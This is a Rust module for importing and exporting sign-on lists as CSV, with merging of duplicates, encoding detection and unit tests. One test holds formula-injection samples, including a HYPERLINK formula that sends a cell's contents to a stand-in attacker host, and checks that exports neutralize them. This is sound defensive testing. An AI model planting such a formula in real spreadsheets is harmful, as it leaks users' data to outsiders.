//! Sign-on lists as CSV: importing what web forms and spreadsheets write (UTF-8 with or
//! without BOM, UTF-16 with BOM, Windows-1252; comma, semicolon or tab), with duplicates
//! merged into the draft's list rather than added twice; and exporting the list as UTF-8
//! CSV with a BOM, which Excel opens with accents intact.

mod columns;
mod export;
mod formula;
mod merge;
mod read;
mod row;

use std::collections::HashMap;
use std::fmt;
use std::path::{Path, PathBuf};

use jiff::civil::Date;

pub use columns::{Field, field_of, guess_columns};
pub use export::export_csv;
pub use formula::{protect, unprotect};
pub use merge::{MergeNote, organization_key};
pub use read::{Decoded, decode, sniff_delimiter};

use crate::model::Signatory;
use merge::{emails, merge};
use read::Rows;
use row::{Row, Skip, read_row};

/// Rows accepted in one import, so that a wrong file cannot make memodraft allocate
/// without bound.
pub const MAX_ROWS: usize = 200_000;

#[derive(Debug, thiserror::Error)]
pub enum CsvError {
    /// The reason is in the message, not a `source` (see [`super::DraftError`]).
    #[error("cannot read {}: {reason}. Check the file's name and that you may read it", path.display())]
    Read {
        path: PathBuf,
        reason: std::io::Error,
    },
    #[error(
        "{} is larger than {limit} bytes, the size sign-on lists are limited to. Is this the right file? Export the sign-on list as CSV and import that",
        path.display(),
        limit = super::MAX_DRAFT_BYTES
    )]
    TooLarge { path: PathBuf },
    #[error(
        "{} has no organization column (headers found: {found}). Name the column \"Organization\" (or Organización, Org) and import again",
        path.display()
    )]
    NoOrganizationColumn { path: PathBuf, found: String },
    #[error("{}:{line}: {message}. Fix that row in a spreadsheet and import again", path.display())]
    Row {
        path: PathBuf,
        line: u64,
        message: String,
    },
    #[error(
        "{} has too many rows: at most {MAX_ROWS} rows are read, and a draft holds at most {} signatories; split it and import the parts",
        path.display(),
        crate::model::limits::MAX_SIGNATORIES
    )]
    TooManyRows { path: PathBuf },
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Outcome {
    Added,
    /// Merged into the organization of this (final) name.
    Merged(String),
    Skipped(String),
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RowReport {
    /// The row a spreadsheet shows it on, which is what people look for: the header is
    /// row 1; a cell with line breaks inside is one row, a blank line is one row.
    pub row: u64,
    /// The line of the file the row starts on, as a text editor counts.
    pub line: u64,
    pub organization: String,
    pub outcome: Outcome,
    /// What cleaning removed from the row, and for a merged row what it changed in the
    /// entry.
    pub notes: Vec<MergeNote>,
}

/// One line of an import report, as the command line prints it:
/// `row 8: HUMAN RIGHTS WATCH: merged into "Human Rights Watch": added contact Sam Lee <sam@hrw.org>`.
impl fmt::Display for RowReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "row {}: ", self.row)?;
        if !self.organization.is_empty() {
            write!(f, "{}: ", self.organization)?;
        }
        match &self.outcome {
            Outcome::Added => f.write_str("added")?,
            Outcome::Merged(into) => write!(f, "merged into \"{into}\"")?,
            Outcome::Skipped(why) => write!(f, "skipped ({why})")?,
        }
        for (i, note) in self.notes.iter().enumerate() {
            f.write_str(if i == 0 { ": " } else { "; " })?;
            write!(f, "{note}")?;
        }
        Ok(())
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ImportReport {
    pub encoding: &'static str,
    pub delimiter: u8,
    pub rows: Vec<RowReport>,
}

impl ImportReport {
    pub fn count(&self, f: impl Fn(&Outcome) -> bool) -> usize {
        self.rows.iter().filter(|r| f(&r.outcome)).count()
    }

    pub fn delimiter_name(&self) -> &'static str {
        match self.delimiter {
            b';' => "semicolon",
            b'\t' => "tab",
            _ => "comma",
        }
    }
}

/// Reads a CSV file and merges its rows into `list` (see [`import_bytes`]).
pub fn import_file(list: &mut Vec<Signatory>, path: &Path) -> Result<ImportReport, CsvError> {
    let bytes = read_file(path)?;
    import_bytes(list, &bytes, path)
}

/// The bytes of a CSV file, refused above the size limit (see [`super::read_limited`]).
pub fn read_file(path: &Path) -> Result<Vec<u8>, CsvError> {
    super::read_limited(path, super::MAX_DRAFT_BYTES).map_err(|e| match e {
        super::ReadError::Io(reason) => CsvError::Read {
            path: path.to_owned(),
            reason,
        },
        super::ReadError::TooLarge => CsvError::TooLarge {
            path: path.to_owned(),
        },
    })
}

/// Merges the rows of a CSV file into `list`: a row whose email, or whose organization
/// key ([`organization_key`]), matches an entry already there (or an earlier row) is
/// merged into it, keeping the better-spelled name and filling empty fields; other rows
/// are added, as received (not printed) unless the file says their status. Each cell is
/// cleaned as untrusted text ([`crate::model::untrusted::clean`]); rows without an
/// organization, with an overlong one or with an email that is not an address are
/// skipped with the reason. On error `list` is unchanged.
pub fn import_bytes(
    list: &mut Vec<Signatory>,
    bytes: &[u8],
    path: &Path,
) -> Result<ImportReport, CsvError> {
    import_mapped(list, bytes, path, None)
}

/// The header row of a CSV file, decoded, for choosing columns by hand.
pub fn headers(bytes: &[u8]) -> Vec<String> {
    let decoded = decode(bytes);
    let delimiter = sniff_delimiter(&decoded.text);
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .flexible(true)
        .trim(csv::Trim::All)
        .from_reader(decoded.text.as_bytes())
        .headers()
        .map(|h| h.iter().map(str::to_owned).collect())
        .unwrap_or_default()
}

/// [`import_bytes`] with the columns given by hand (one entry per column, `None` to
/// ignore it) instead of read from the header names.
pub fn import_mapped(
    list: &mut Vec<Signatory>,
    bytes: &[u8],
    path: &Path,
    mapping: Option<&[Option<Field>]>,
) -> Result<ImportReport, CsvError> {
    import_mapped_on(
        list,
        bytes,
        path,
        mapping,
        jiff::ZonedDateTime::now().date(),
    )
}

/// [`import_mapped`] on the day `today`, which dates a status change that the row itself
/// does not date (see [`Signatory::set_status`]).
pub fn import_mapped_on(
    list: &mut Vec<Signatory>,
    bytes: &[u8],
    path: &Path,
    mapping: Option<&[Option<Field>]>,
    today: Date,
) -> Result<ImportReport, CsvError> {
    let options = ImportOptions {
        mapping,
        confirm: false,
        today,
    };
    import_with(list, bytes, path, &options)
}

/// How [`import_with`] reads a file.
#[derive(Clone, Copy, Debug)]
pub struct ImportOptions<'a> {
    /// The columns given by hand (see [`import_mapped`]); `None`: read from the headers.
    pub mapping: Option<&'a [Option<Field>]>,
    /// The drafting team has checked the sheet: rows that do not say their status are
    /// confirmed instead of received, and so are the received entries they match.
    pub confirm: bool,
    /// Dates a status change that the row itself does not date.
    pub today: Date,
}

/// [`import_bytes`] with every choice given.
pub fn import_with(
    list: &mut Vec<Signatory>,
    bytes: &[u8],
    path: &Path,
    options: &ImportOptions<'_>,
) -> Result<ImportReport, CsvError> {
    let mapping = options.mapping;
    let decoded = decode(bytes);
    let delimiter = sniff_delimiter(&decoded.text);
    // Cells are trimmed by `read_row`, after the formula prefix is taken off: trimmed
    // first, "'\t" (a tab protected by export) would lose its tab and keep the prefix.
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .flexible(true)
        .trim(csv::Trim::Headers)
        .from_reader(decoded.text.as_bytes());
    let row_error = |line: u64, e: &csv::Error| CsvError::Row {
        path: path.to_owned(),
        line,
        message: e.to_string(),
    };
    let headers = reader.headers().map_err(|e| row_error(1, &e))?.clone();
    let mut rows_of = Rows::new(decoded.text.as_bytes());
    rows_of.next(0, reader.position().byte());
    let columns: Vec<Option<Field>> = match mapping {
        Some(m) => m.to_vec(),
        None => guess_columns(&headers.iter().collect::<Vec<_>>()),
    };
    if !columns.contains(&Some(Field::Organization)) {
        return Err(CsvError::NoOrganizationColumn {
            path: path.to_owned(),
            found: headers
                .iter()
                .map(|h| format!("\"{h}\""))
                .collect::<Vec<_>>()
                .join(", "),
        });
    }

    let mut merged = list.clone();
    let mut by_key: HashMap<String, usize> = HashMap::with_capacity(merged.len());
    let mut by_email: HashMap<String, usize> = HashMap::with_capacity(merged.len());
    for (i, s) in merged.iter().enumerate() {
        by_key.entry(organization_key(&s.organization)).or_insert(i);
        for email in emails(s) {
            by_email.entry(email).or_insert(i);
        }
    }
    let mut rows = Vec::new();
    let mut record = csv::StringRecord::new();
    for n in 0.. {
        let start = reader.position().byte();
        // The reader's line is that of the line break before the record.
        let read = reader
            .read_record(&mut record)
            .map_err(|e| row_error(reader.position().line() + 1, &e))?;
        if !read {
            break;
        }
        if n >= MAX_ROWS {
            return Err(CsvError::TooManyRows {
                path: path.to_owned(),
            });
        }
        let (line, row_number) = rows_of.next(start, reader.position().byte());
        if record.iter().all(|cell| cell.trim().is_empty()) {
            continue;
        }
        let (row, cleaned) = match read_row(&record, &columns, options.confirm) {
            Ok(Row { signatory, notes }) => (signatory, notes),
            Err(Skip {
                organization,
                reason,
            }) => {
                rows.push(RowReport {
                    row: row_number,
                    line,
                    organization,
                    outcome: Outcome::Skipped(reason),
                    notes: Vec::new(),
                });
                continue;
            }
        };
        let key = organization_key(&row.organization);
        let row_emails = emails(&row);
        let by_name = by_key.get(&key).copied();
        let found = by_name.map(|i| (i, None)).or_else(|| {
            row_emails
                .iter()
                .find_map(|e| by_email.get(e).map(|&i| (i, Some(e.clone()))))
        });
        let organization = row.organization.clone();
        let mut notes = cleaned;
        let outcome = if let Some((i, matched_email)) = found
            && let Some(existing) = merged.get_mut(i)
        {
            if let Some(email) = matched_email {
                notes.push(MergeNote::SameEmail(email));
            }
            notes.extend(merge(existing, row, by_name.is_some(), options.today));
            by_key.entry(key).or_insert(i);
            for email in row_emails {
                by_email.entry(email).or_insert(i);
            }
            Outcome::Merged(existing.organization.clone())
        } else {
            let i = merged.len();
            merged.push(row);
            by_key.insert(key, i);
            for email in row_emails {
                by_email.entry(email).or_insert(i);
            }
            Outcome::Added
        };
        rows.push(RowReport {
            row: row_number,
            line,
            organization,
            outcome,
            notes,
        });
    }
    if merged.len() > crate::model::limits::MAX_SIGNATORIES {
        return Err(CsvError::TooManyRows {
            path: path.to_owned(),
        });
    }
    *list = merged;
    Ok(ImportReport {
        encoding: decoded.encoding,
        delimiter,
        rows,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Contact, SignOnStatus};

    fn import(list: &mut Vec<Signatory>, csv: &str) -> ImportReport {
        let today = Date::new(2026, 12, 1).unwrap();
        import_mapped_on(list, csv.as_bytes(), Path::new("t.csv"), None, today).unwrap()
    }

    fn lines(report: &ImportReport) -> Vec<String> {
        report.rows.iter().map(ToString::to_string).collect()
    }

    #[test]
    fn a_public_forms_rows_are_received_until_a_checked_sheet_confirms_them() {
        let form = "Timestamp,Organization,Email\n\
                    11/20/2026 9:14:02,Fundar,info@fundar.example.org\n\
                    11/21/2026 8:00:00,Serapaz,\n";
        let mut list = vec![Signatory {
            organization: "Serapaz".into(),
            status: SignOnStatus::Invited,
            ..Signatory::default()
        }];
        import(&mut list, form);
        let statuses: Vec<_> = list.iter().map(|s| (s.status, s.signed)).collect();
        let day = |d| Date::new(2026, 11, d).ok();
        assert_eq!(
            statuses,
            [
                (SignOnStatus::Received, day(21)),
                (SignOnStatus::Received, day(20)),
            ],
            "an invited organization that sends the form awaits review too"
        );

        let today = Date::new(2026, 12, 1).unwrap();
        let options = ImportOptions {
            mapping: None,
            confirm: true,
            today,
        };
        let report = import_with(&mut list, form.as_bytes(), Path::new("t.csv"), &options).unwrap();
        assert_eq!(
            lines(&report),
            [
                "row 2: Fundar: merged into \"Fundar\": now Confirmed (was Received)",
                "row 3: Serapaz: merged into \"Serapaz\": now Confirmed (was Received)",
            ]
        );
        assert!(list.iter().all(|s| s.status == SignOnStatus::Confirmed));
        assert_eq!(
            list.get(1).and_then(|s| s.signed),
            day(20),
            "the day it was sent"
        );

        // A sheet that says its statuses keeps them; a form's "yes" is not a confirmation.
        let mut list = Vec::new();
        import(
            &mut list,
            "Organization,Status\nA,Confirmed\nB,Declined\nC,Yes\nD,\n",
        );
        let statuses: Vec<_> = list.iter().map(|s| s.status).collect();
        let (confirmed, declined, received) = (
            SignOnStatus::Confirmed,
            SignOnStatus::Declined,
            SignOnStatus::Received,
        );
        assert_eq!(statuses, [confirmed, declined, received, received]);
    }

    #[test]
    fn spoofing_characters_are_removed_with_a_line_and_bad_rows_are_skipped_with_why() {
        let long = "Colectivo ".repeat(31);
        let csv = format!(
            "Organization,Contact,Email\n\
             Centro \u{202E}Prodh,Ana Ru\u{200D}iz,ana@prodh.example.org\n\
             {long},,\n\
             Nube,Pedro,pedro at nube\n\
             Serapaz,Luis,n/a\n"
        );
        let mut list = Vec::new();
        let report = import(&mut list, &csv);
        assert_eq!(
            lines(&report),
            [
                "row 2: Centro Prodh: added: removed from the organization: U+202E (bidi control); \
                 removed from the contact: U+200D (zero-width)",
                "row 3: Colectivo Colectivo Colectivo Colectivo Colectivo Colectivo \u{2026}: \
                 skipped (the organization name is 309 characters long, more than the 300 a \
                 name can be; shorten it in the sheet)",
                "row 4: Nube: skipped (\"pedro at nube\" is not an email address; correct it in \
                 the sheet)",
                "row 5: Serapaz: added",
            ]
        );
        let names: Vec<_> = list.iter().map(|s| s.organization.as_str()).collect();
        assert_eq!(names, ["Centro Prodh", "Serapaz"]);
        assert_eq!(
            list.first()
                .and_then(|s| s.contacts.first())
                .map(|c| c.name.as_str()),
            Some("Ana Ruiz")
        );
        assert_eq!(
            list.get(1).map(|s| s.contacts.clone()),
            Some(vec![Contact {
                name: "Luis".into(),
                email: String::new()
            }]),
            "\"n/a\" says there is no email"
        );
    }

    #[test]
    fn formulas_are_exported_as_text_and_imported_back_as_they_were() {
        let names = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "+SUM(1+1)",
            "@cmd",
            "-1+2",
        ];
        let list: Vec<Signatory> = names
            .iter()
            .map(|name| Signatory {
                organization: (*name).to_owned(),
                city: "=1+1".into(),
                status: SignOnStatus::Confirmed,
                signed: Date::new(2026, 11, 2).ok(),
                contacts: vec![Contact {
                    name: "@Ana".into(),
                    email: String::new(),
                }],
                ..Signatory::default()
            })
            .collect();
        let csv = export_csv(&list);
        // What a spreadsheet reads: no cell starts as a formula.
        let mut reader = csv::Reader::from_reader(csv.get(3..).unwrap_or_default());
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
            }
        }
        let mut back = Vec::new();
        import(&mut back, std::str::from_utf8(&csv).unwrap());
        assert_eq!(back, list);
    }

    #[test]
    fn rows_are_numbered_as_a_spreadsheet_shows_them() {
        for newline in ["\n", "\r\n"] {
            let csv = [
                "Organization,City",
                "Nube,Oaxaca",
                "\"Red de Madres",
                "Buscadoras\",\"Hermosillo,",
                "Sonora\"",
                "",
                "Ágora,Lima",
                ",Quito",
                "Tlachinollan,Tlapa",
            ]
            .join(newline);
            let report = import(&mut Vec::new(), &csv);
            let numbers: Vec<(u64, u64)> = report.rows.iter().map(|r| (r.row, r.line)).collect();
            // Rows: the blank line is row 4, the cells with line breaks keep row 3 whole.
            assert_eq!(
                numbers,
                [(2, 2), (3, 3), (5, 7), (6, 8), (7, 9)],
                "{newline:?}"
            );
            assert_eq!(
                report.rows.get(3).map(ToString::to_string).as_deref(),
                Some("row 6: skipped (no organization name)")
            );
        }
    }
}
